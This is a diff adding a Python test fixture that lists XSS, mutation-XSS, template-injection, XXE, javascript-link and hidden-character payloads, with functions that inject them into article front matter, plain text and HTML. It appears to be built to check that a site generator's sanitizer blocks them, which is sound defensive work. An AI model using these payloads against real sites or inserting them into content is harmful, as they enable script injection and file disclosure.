@@ -1,0 +1,189 @@
+"""Hostile inputs as tables: what is tried (payloads), where it is put (contexts), and odd files.
+
+`hit(…)` is what each script payload would call: the browser test defines it and fails when it is ever called.
+`PROBE` is a host that no page may ask. Add a row for each new trick; the tests take every row in every context.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import dataclass
+
+PROBE = "probe.invalid"
+
+# name → payload. The names say what the trick is.
+PAYLOADS: dict[str, str] = {
+    # scripts, plainly and in disguise
+    "script": "<script>hit()</script>",
+    "script-upper": "<SCRIPT>hit()</SCRIPT>",
+    "script-src": f"<script src=//{PROBE}/x.js></script>",
+    "script-slash": "<script/x>hit()</script>",
+    "script-nested": "<scr<script>ipt>hit()</scr</script>ipt>",
+    "script-unclosed": "<script>hit()",
+    "script-null": "<scr\x00ipt>hit()</scr\x00ipt>",
+    "script-in-title": "</title><script>hit()</script>",
+    "script-in-script": "</script><script>hit()</script>",
+    "script-comment": "<!--><script>hit()</script>-->",
+    "script-cdata": "<![CDATA[<script>hit()</script>]]>",
+    "script-pi": "<?xml version='1.0'?><script>hit()</script>",
+    "script-entities": "&lt;script&gt;hit()&lt;/script&gt;",
+    "script-numeric": "&#60;script&#62;hit()&#60;/script&#62;",
+    "script-fullwidth": "＜script＞hit()＜/script＞",
+    # handlers
+    "img-onerror": "<img src=x onerror=hit()>",
+    "img-backtick": "<img src=`x`onerror=hit()>",
+    "img-slash": "<img/src=x/onerror=hit()>",
+    "img-newline": "<img\nsrc=x\nonerror\n=\nhit()>",
+    "body-onload": "<body onload=hit()>",
+    "details": "<details open ontoggle=hit()><summary>s</summary></details>",
+    "input-autofocus": "<input autofocus onfocus=hit()>",
+    "marquee": "<marquee onstart=hit()>m</marquee>",
+    "video-source": "<video><source onerror=hit()></video>",
+    "audio-src": f"<audio src=https://{PROBE}/a.ogg autoplay onerror=hit()></audio>",
+    "any-pointer": '<p onpointerenter="hit()" style="position:fixed;inset:0">cover</p>',
+    "attribute-break-double": '" autofocus onfocus="hit()" x="',
+    "attribute-break-single": "' autofocus onfocus='hit()' x='",
+    "attribute-break-tag": '"><img src=x onerror=hit()>',
+    # other name spaces and mutation tricks
+    "svg-onload": "<svg onload=hit()></svg>",
+    "svg-script": "<svg><script>hit()</script></svg>",
+    "svg-animate": "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
+    "svg-use": f'<svg><use href="https://{PROBE}/x.svg#a"/></svg>',
+    "svg-foreign": '<svg><foreignObject><iframe src="javascript:parent.hit()"></iframe></foreignObject></svg>',
+    "math-href": '<math href="javascript:hit()">click</math>',
+    "mathml-mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
+    "svg-mutation": "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
+    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
+    "template": "<template><img src=x onerror=hit()></template>",
+    "plaintext": "<plaintext><img src=x onerror=hit()>",
+    "xmp": "<xmp><img src=x onerror=hit()></xmp>",
+    # addresses
+    "link-javascript": '<a href="javascript:hit()">here</a>',
+    "link-javascript-case": '<a href="JaVaScRiPt:hit()">here</a>',
+    "link-javascript-entity": '<a href="&#106;avascript&colon;hit()">here</a>',
+    "link-javascript-tab": '<a href="java\tscript:hit()">here</a>',
+    "link-javascript-space": '<a href=" &#1;javascript:hit()">here</a>',
+    "link-data": '<a href="data:text/html,<script>hit()</script>">here</a>',
+    "link-vbscript": '<a href="vbscript:hit()">here</a>',
+    "link-file": '<a href="file:///etc/passwd">here</a>',
+    "markdown-javascript": "[here](javascript:hit())",
+    "markdown-javascript-case": "[here](JAVASCRIPT:hit())",
+    "markdown-javascript-entity": "[here](javascript&#58;hit())",
+    "markdown-data": "[here](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
+    "markdown-image-break": '![alt" onerror="hit()](/images/none.png "t" onerror="hit()")'.replace("/images/none.png", "x"),
+    "markdown-reference": "[here][1]\n\n[1]: javascript:hit()",
+    "markdown-autolink": "<javascript:hit()>",
+    "markdown-remote-image": f"![pixel](https://{PROBE}/pixel.png)",
+    "markdown-attributes": "text {: onclick=hit() style=x }",
+    "markdown-html-block": "<div markdown=1 onclick=hit()>\n*x*\n</div>",
+    "html-remote-image": f"<img src='https://{PROBE}/pixel.png' alt='p'>",
+    "html-scheme-relative": f"<img src=//{PROBE}/pixel.png alt=p>",
+    "html-srcset": f"<img alt=p srcset='https://{PROBE}/pixel.png 2x'>",
+    # embedding, forms, styles, document tricks
+    "iframe-src": f"<iframe src=https://{PROBE}/></iframe>",
+    "iframe-srcdoc": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "object": f"<object data=https://{PROBE}/x.swf></object>",
+    "embed": f"<embed src=https://{PROBE}/x>",
+    "link-stylesheet": f"<link rel=stylesheet href=https://{PROBE}/x.css>",
+    "link-prefetch": f"<link rel=prefetch href=https://{PROBE}/x>",
+    "style-import": f"<style>@import 'https://{PROBE}/x.css'; *{{background:url(https://{PROBE}/y)}}</style>",
+    "style-attribute": f"<p style='background:url(https://{PROBE}/y)'>p</p>",
+    "base": f"<base href=https://{PROBE}/>",
+    "meta-refresh": f'<meta http-equiv=refresh content="0;url=https://{PROBE}/">',
+    "form": f"<form action=https://{PROBE}/><button>send</button></form>",
+    "button-formaction": "<button formaction=javascript:hit()>x</button>",
+    "portal": f"<portal src=https://{PROBE}/></portal>",
+    "custom-element": "<x-y onclick=hit() is=z>c</x-y>",
+    "dialog-id": '<p id="main" name="location">clobbered</p>',
+    # templates: none of these may be computed
+    "jinja-sum": "{{ 7*'7' }}",
+    "jinja-class": "{{ ''.__class__.__mro__ }}",
+    "jinja-block": "{% for x in range(9) %}X{% endfor %}",
+    "jinja-include": "{% include '/etc/passwd' %}",
+    "jinja-comment": "{# gone #}",
+    "erb": "<%= 7*7 %>",
+    "dollar": "${7*7}",
+    # JSON blocks and feeds
+    "json-close": '"}</script><script>hit()</script>',
+    "json-comment": "<!--<script>hit()",
+    "json-lines": "a\u2028hit()\u2029b",
+    "cdata-close": "]]><script>hit()</script>",
+    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    "spreadsheet": "=HYPERLINK(\"https://probe.invalid/\";\"x\")",
+    # characters that hide or turn
+    "bidi": "safe \u202egnp.exe\u202c end",
+    "zero-width": "pass\u200bword\u2060\ufeff",
+    "tags": "plain\U000e0041\U000e0042 text",
+    "control": "bell\x07 back\x08 escape\x1b[31m",
+}  # fmt: skip
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Context:
+    """A place to put a payload. `make` gives the files of a digest for one payload and a case's name."""
+
+    name: str
+    make: Callable[[str, str], dict[str, str]]
+
+
+def quoted(text: str) -> str:
+    """Text as a double-quoted YAML scalar, all that is not plain ASCII escaped: the value arrives as it is."""
+    plain = text.replace("\\", "\\\\").replace('"', '\\"')
+    return '"' + "".join(c if " " <= c <= "~" else f"\\U{ord(c):08X}" for c in plain) + '"'
+
+
+def _front(name: str, field: str, body: str = "A paragraph.") -> dict[str, str]:
+    title = "" if field.startswith("title:") else f"title: Case {name}\n"
+    text = f"---\n{title}date: 2020-07-02\nslug: {name}\n{field}\n---\n\n{body}\n"
+    return {f"content/articles/2020/{name}.md": text}
+
+
+def _field(template: str) -> Callable[[str, str], dict[str, str]]:
+    return lambda payload, name: _front(name, template.replace("PAYLOAD", quoted(payload)))
+
+
+# What a contributor or an earlier program may have put into content files (attackers A1 and A3).
+CONTENT_CONTEXTS: tuple[Context, ...] = (
+    Context(name="title", make=_field("title: PAYLOAD")),
+    Context(name="subtitle", make=_field("subtitle: PAYLOAD")),
+    Context(name="description", make=_field("description: PAYLOAD")),
+    Context(name="summary", make=_field("summary: PAYLOAD\npolicy: summary")),
+    Context(name="person", make=lambda p, n: _front(n, f"people:\n  - name: {quoted(n + ' ' + p)}\n    role: {quoted(p)}")),
+    Context(name="quote", make=_field("people:\n  - name: Ada Quoted\n    quotes: [PAYLOAD]")),
+    Context(name="topic", make=lambda p, n: _front(n, f"topics: [{quoted(n + ' ' + p)}]")),
+    Context(name="source", make=lambda p, n: _front(n, f"source:\n  name: {quoted(n + ' ' + p)}\n  authors: [{quoted(p)}]")),
+    Context(name="caption", make=_field("image_caption: PAYLOAD\nimage_alt: PAYLOAD\nimage_credit: PAYLOAD")),
+    Context(name="place", make=_field("place: PAYLOAD\nauthors: [PAYLOAD]")),
+    Context(name="correction", make=_field("corrections:\n  - date: 2020-07-03\n    text: PAYLOAD")),
+    Context(name="body", make=lambda p, n: _front(n, "lang: en", body=f"Before it. {p} After it.\n\n{p}\n\n- {p}\n\n> {p}")),
+)  # fmt: skip
+
+_FILLER = (
+    "The harbour office said on Thursday that the ferries would run again from the first week of July, after "
+    "three months in which only freight had been let across the strait.",
+    "Two of the five boats have been repainted. The others wait for parts that a yard in the north is to deliver "
+    "before the end of the month, the office added.",
+    "Passengers will have to register a day ahead, and the islands keep the right to close their piers at any time.",
+)
+
+
+def raw_text(payload: str, name: str) -> str:
+    """A plain-text article with the payload as a line of its own, within one, and at an end."""
+    lines = [f"Ferries return to the strait, case {name}", "By Ines Calloway", *_FILLER[:2]]
+    lines += [f"An onlooker had written on the pier: {payload} and nobody knew why.", f"{payload} stood there too.", _FILLER[2]]
+    return "\n\n".join(lines) + "\n"
+
+
+def raw_html(payload: str, name: str) -> str:
+    """A saved page with the payload as markup: in the head, a headline, a paragraph, attributes and JSON-LD."""
+    attribute = payload.replace("&", "&amp;").replace('"', "&quot;")
+    paragraphs = "".join(f"<p>{text}</p>\n" for text in _FILLER)
+    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Ferries, case {name}</title>
+<meta name="author" content="{attribute}"><meta name="description" content="{attribute}">
+</head><body><article><h1>Ferries return, case {name}</h1>
+{paragraphs}<p>An onlooker had written on the pier: {payload} and nobody of the office could say in the evening why.</p>
+<figure><img src="{attribute}" alt="{attribute}"><figcaption>{payload}</figcaption></figure>
+<p>There was also <a href="{attribute}" title="{attribute}">a link that a fisherman had painted there</a> in white letters.</p>
+<blockquote>{payload}</blockquote>
+{paragraphs}</article></body></html>
+"""
